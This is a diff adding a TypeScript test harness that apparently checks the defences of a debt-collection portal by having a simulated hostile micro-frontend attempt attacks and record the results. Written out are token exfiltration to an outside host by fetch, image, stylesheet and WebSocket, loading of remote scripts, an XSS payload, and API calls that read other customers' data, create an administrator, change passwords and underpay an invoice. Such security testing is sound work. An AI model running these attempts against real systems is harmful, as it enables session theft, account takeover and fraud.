@@ -1,0 +1,149 @@
+/** What a remote tried: `no` and why, or `yes`. */
+export type Outcome = string;
+
+/**
+ * Everything that a hostile remote tries from its own code, once its page stands there. It is built into a release as
+ * text, so it stands alone: no imports, browser only. `elsewhere` is a site of its own, `foreign` an invoice and `other`
+ * a national ID of somebody else.
+ */
+export async function tryEverything(elsewhere: string, other: string): Promise<Record<string, Outcome>> {
+  const outcomes: Record<string, Outcome> = {};
+  const patience = <T>(promise: Promise<T>): Promise<T> =>
+    Promise.race([
+      promise,
+      new Promise<never>((_, fail) => setTimeout(() => fail(new Error('no answer')), 4_000)),
+    ]);
+  const attempt = async (name: string, act: () => unknown): Promise<void> => {
+    try {
+      const result = await patience(Promise.resolve(act()));
+      outcomes[name] = typeof result === 'string' ? result : 'yes';
+    } catch (error) {
+      outcomes[name] = `no: ${(error as Error).name}`;
+    }
+  };
+  const loaded = (element: HTMLElement, place: HTMLElement = document.body): Promise<unknown> =>
+    new Promise((done, fail) => {
+      element.onload = done;
+      element.onerror = () => fail(new Error('error'));
+      place.append(element);
+    });
+  const made = (tag: string, fields: object): HTMLElement =>
+    Object.assign(document.createElement(tag), fields);
+  const token = localStorage.getItem('session_token') ?? '';
+  /** A call as the portal itself makes it: the cookie goes along by itself. */
+  const call = async (method: string, path: string, body?: unknown): Promise<string> => {
+    const answer = await fetch(path, {
+      method,
+      headers: {
+        authorization: `Token ${token}`,
+        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
+        'idempotency-key': crypto.randomUUID(),
+      },
+      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+    });
+    const { code = '', status = '' } = (await answer.json().catch(() => ({}))) as Record<string, string>;
+    return answer.ok && status !== 'Fail' ? 'yes' : `no: ${answer.status} ${code}`;
+  };
+  const unsafe = globalThis as unknown as Record<string, (text: string) => unknown>;
+
+  await attempt('read the session cookie', () =>
+    document.cookie.includes('__Host-session') ? 'yes' : 'no: not there',
+  );
+  await attempt('run text as code', () => unsafe['eval']?.('1'));
+  await attempt('compile WebAssembly', () =>
+    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
+  );
+  await attempt('write HTML into the page', () => {
+    document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
+  });
+  await attempt('add an inline script', () => {
+    const script = document.createElement('script');
+    script.text = 'window.ranInline = true';
+    document.body.append(script);
+    return 'ranInline' in window ? 'yes' : 'no: not run';
+  });
+  await attempt('load a script from elsewhere', () => loaded(made('script', { src: `${elsewhere}/s.js` })));
+  await attempt(
+    'import a module from elsewhere',
+    () => import(/* webpackIgnore: true */ `${elsewhere}/m.js`),
+  );
+  await attempt('start a worker of its own text', () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
+    return new Promise((done, fail) => {
+      worker.onmessage = done;
+      worker.onerror = () => fail(new Error('error'));
+    });
+  });
+  await attempt('send by fetch', () => fetch(`${elsewhere}/fetch?d=${token}`, { mode: 'no-cors' }));
+  await attempt('send by image', () => loaded(made('img', { src: `${elsewhere}/image?d=${token}` })));
+  await attempt('send by style sheet', () =>
+    loaded(made('link', { rel: 'stylesheet', href: `${elsewhere}/style?d=${token}` }), document.head),
+  );
+  await attempt('send by WebSocket', () => {
+    const socket = new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`);
+    return new Promise((done, fail) => {
+      socket.onopen = done;
+      socket.onerror = () => fail(new Error('error'));
+    });
+  });
+  await attempt('send by event source', () => {
+    const source = new EventSource(`${elsewhere}/events`);
+    return new Promise((done, fail) => {
+      source.onopen = done;
+      source.onerror = () => fail(new Error('error'));
+    });
+  });
+  await attempt('move the base of addresses', () => {
+    document.head.append(made('base', { href: `${elsewhere}/` }));
+    return document.baseURI.startsWith(elsewhere) ? 'yes' : 'no: not taken';
+  });
+  await attempt("read another customer's debt", () => call('GET', `/api/punishedPortfolio/${other}`));
+  await attempt("read another customer's plan", () => call('GET', `/api/paymentPlan/${other}/E200002`));
+  await attempt('list all customers', () => call('GET', '/api/userList?page=1&trx_by_page=10'));
+  await attempt('make an administrator', () =>
+    call('POST', '/api/adminUsers', {
+      ...{ id: 0, fiscal_number: '9898989898', first_name: 'x', last_name: 'y', email: 'x@y.example' },
+      ...{ phone: '3005550000', password: 'Hostil2026*', perfil_id: 2, status: 'ACTIVE' },
+    }),
+  );
+  await attempt('change the contact data', async () => {
+    const profile = (await (
+      await fetch('/api/dataResponse', { headers: { authorization: `Token ${token}` } })
+    ).json()) as Record<string, unknown> & { version: string };
+    const { home_phone, address, version } = profile;
+    return call('POST', '/api/dataResponse', {
+      ...{ email: 'hostil@correo.example', phone: '3009999999', home_phone, address, version },
+    });
+  });
+  await attempt('change the password', () =>
+    call('POST', '/api/changePassword', {
+      ...{ last_password: 'Adivinada2026*', password_1: 'Hostil2026*x', password_2: 'Hostil2026*x' },
+    }),
+  );
+  await attempt('pay another sum than is due', async () => {
+    const { invoices = [] } = (await (
+      await fetch('/api/invoices', { headers: { authorization: `Token ${token}` } })
+    ).json()) as { invoices?: { invoice: string }[] };
+    const invoice = invoices[0]?.invoice ?? 'E100001';
+    const line = { invoice, interests_mora: 0, amount_without_mora: 1, total_payment: 1, marca: 'Y' };
+    return call('POST', '/api/pay_invoices', {
+      ...{ error_marca: false, fiscal_number: '1010101010', invoices: [invoice], invoices_to_pay: [line] },
+      ...{ total_amount: 1, payment_method: 'PSE', login: true },
+      extra_properties: { bankcode: '1007', bankname: 'x', sales_person: '' },
+    });
+  });
+  await attempt('publish a release', () => call('POST', '/registry/releases', {}));
+  await attempt('switch a remote off', () => call('POST', '/registry/operations', {}));
+
+  await attempt('read the token of the page', () => (token === '' ? 'no: not there' : 'yes'));
+  await attempt('read what its own person may read', () => call('GET', '/api/summary'));
+  await attempt('read the DOM of the shell', () => {
+    if (!document.querySelector('header')) throw new Error('no header');
+  });
+  await attempt('replace fetch for what comes later', () => {
+    const { fetch: original } = window;
+    window.fetch = (...given) => original(...given);
+    window.fetch = original;
+  });
+  return outcomes;
+}
